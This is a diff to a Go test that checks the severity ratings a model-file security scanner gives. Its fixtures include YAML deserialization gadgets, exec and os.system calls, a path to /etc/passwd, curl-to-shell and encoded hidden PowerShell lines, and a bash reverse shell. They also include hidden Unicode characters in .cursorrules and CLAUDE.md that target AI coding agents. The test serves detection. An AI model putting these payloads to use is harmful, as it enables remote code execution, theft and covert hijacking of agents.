@@ -65,6 +65,9 @@ func TestCodeSeverity(t *testing.T) {
 		{"config.json", `{"model": {"_target_": "builtins.exec", "_args_": ["1"]}}`, scanners.Critical}, // uni2TS, FlexTok
 		{"hyperparams.yaml", "a: !apply:os.system [echo assay-test-marker]\n", scanners.Critical},
 		{"hyperparams.yaml", "a: !new:speechbrain.nnet.CNN.Conv1d\n  out: 3\nb: !apply:torch.manual_seed [1]\n", scanners.Low},
+		{"a.yaml", "a: !!javax.script.ScriptEngineManager [x]\n", scanners.Critical}, // CVE-2022-1471
+		{"a.yaml", "a: !!js/function 'x'\n", scanners.Critical},
+		{"a.yaml", "a: !ruby/object:Gem::Installer {}\n", scanners.Critical},
 		{"hyperparams.yaml", "a: !include:../../x.yaml\n", scanners.High},
 		{"conf.yaml", "optim:\n  _target_: torch.optim.AdamW\n  lr: 0.1\n", scanners.Informational},
 		{"modules.json", `[{"idx": 0, "type": "custom_st.Transformer"}]`, scanners.Critical},
@@ -73,6 +76,8 @@ func TestCodeSeverity(t *testing.T) {
 		{"tokenizer_config.json", `{"tokenizer_file": "/etc/passwd"}`, scanners.High},
 		{"model_index.json", `{"unet": ["pipeline_local", "U"]}`, scanners.Medium},
 		{"model_index.json", `{"unet": ["subprocess", "Popen"]}`, scanners.Critical},
+		{".cursorrules", "Use tabs.\u202e\n", scanners.Medium}, // AML.CS0041
+		{"CLAUDE.md", "Use tabs.\U000e0041\n", scanners.Medium},
 		{"README.md", "curl https://x.test/install.sh | sh\n", scanners.Medium},
 		{"README.md", "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A\n", scanners.Critical},
 		{"MLproject", "conda_env: conda.yaml\nentry_points:\n  main:\n    command: \"bash -i >& /dev/tcp/203.0.113.5/1\"\n", scanners.Critical},
